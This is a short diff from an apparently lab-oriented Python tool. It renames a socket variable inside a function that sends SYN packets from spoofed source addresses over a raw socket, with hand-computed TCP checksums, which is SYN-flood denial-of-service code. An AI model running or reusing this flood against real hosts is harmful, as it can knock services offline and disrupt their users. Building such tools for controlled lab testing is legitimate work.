@@ -136,7 +136,7 @@ def _wait_for_processors() -> None:
 
 def _flood(address: str, port: int, count: int) -> None:
     """SYNs from made-up sources: raw IPv4 with a TCP header whose checksum is right."""
-    door = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     target = socket.inet_aton(address)
     for number in range(count):
         if number % BURST == 0:
@@ -148,8 +148,8 @@ def _flood(address: str, port: int, count: int) -> None:
         total = (total & 0xFFFF) + (total >> 16)
         check = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
         ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, target)
-        door.sendto(ip + header[:16] + struct.pack("!H", check) + header[18:], (address, 0))
-    door.close()
+        sock.sendto(ip + header[:16] + struct.pack("!H", check) + header[18:], (address, 0))
+    sock.close()
 
 
 def _run_flood(lab: Lab, place: str, address: str, port: int, count: int) -> None:
